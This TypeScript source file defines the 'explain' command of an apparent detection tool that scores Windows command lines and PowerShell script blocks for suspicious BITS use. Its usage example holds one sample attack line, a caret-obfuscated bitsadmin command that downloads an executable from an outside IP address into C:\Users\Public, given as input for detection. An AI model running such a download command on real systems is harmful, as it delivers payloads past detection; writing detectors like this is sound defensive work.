import { readFileSync } from 'node:fs';
import { tuningFrom, tuningOptions } from '../tuned.js';
import { exitCodes, formatOption, wrongUse } from '../verb.js';
import type { Args, Verb } from '../verb.js';

export const explain: Verb = {
  name: 'explain',
  summary: 'Shows what a command line or script says about BITS, and the sum of its score.',
  usage: "'<command line>' | - [--parent <command line>] [--script] [options]",
  options: [
    { name: 'script', doc: 'The text is PowerShell, as a script block log has it.' },
    { name: 'image', value: 'path', doc: 'The program that runs, where the command line does not say it, or says something else.' },
    { name: 'parent', value: 'command line', doc: 'The process that started it: path or command line.' },
    { name: 'field', value: 'name=value', many: true, doc: 'Another field of the event, by a name that | bitsscore knows, such as original_file_name=bitsadmin.exe.' },
    ...tuningOptions,
    formatOption,
  ],
  examples: [
    { line: "explain 'cmd /c b^itsadmin /transfer job http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe'", doc: 'Facts, signals, and how they add up.' },
    { line: "explain - --script --format json < script.ps1", doc: 'A script from standard input, for programs.' },
  ],
  operands: 1,
  async run(args, io) {
    const row = rowOf(args);
    if (typeof row === 'string') return wrongUse(io, row, "For example: bitsjobs explain 'bitsadmin /list /allusers'");
    const tuning = await tuningFrom(args, io);
    if (typeof tuning === 'string') return wrongUse(io, tuning);
    const [{ assess }, { factsOf }, { explainedJson, explainedText }] = await Promise.all([import('../../score/index.js'), import('../../windows/index.js'), import('../explained.js')]);
    const facts = factsOf((name) => row.get(name));
    const show = args.one('format') === 'json' ? explainedJson : explainedText;
    io.out(show(facts && { facts, assessment: assess(facts, tuning), threshold: tuning.threshold }));
    return exitCodes.done;
  },
};

/** The fields of an event, or what is wrong with the call. */
function rowOf(args: Args): ReadonlyMap<string, string> | string {
  const [given] = args.operands;
  const fields = args.many('field').map((field) => [field.slice(0, Math.max(0, field.indexOf('='))), field.slice(field.indexOf('=') + 1)] as const);
  if (fields.some(([name]) => name === '')) return '--field needs a name and a value: --field original_file_name=bitsadmin.exe';
  if (given === undefined && fields.length === 0) return 'explain needs a command line, or - for standard input';
  const text = given === '-' ? standardInput() : given;
  if (given === '-' && text === undefined) return 'standard input cannot be read';
  const image = args.one('image');
  const parent = args.one('parent');
  return new Map([
    ...(text === undefined ? [] : [[args.has('script') ? 'ScriptBlockText' : 'process', text] as const]),
    ...(image === undefined ? [] : [['process_path', image] as const]),
    ...(parent === undefined ? [] : ([['parent_process', parent], ['parent_process_path', programIn(parent)]] as const)),
    ...fields,
  ]);
}

/** Without the line end that an editor or `echo` puts there. */
function standardInput(): string | undefined {
  try {
    return readFileSync(0, 'utf8').replace(/\r?\n$/, '');
  } catch {
    return undefined;
  }
}

/** The program that a command line begins with; a path with blanks may stand there without quotes. */
function programIn(line: string): string {
  const [, quoted, plain, word] = /^\s*(?:"([^"]+)"|((?:[a-z]:|\\\\).*?\.(?:exe|com|scr))(?=\s|$)|(\S+))/i.exec(line) ?? [];
  return quoted ?? plain ?? word ?? line;
}
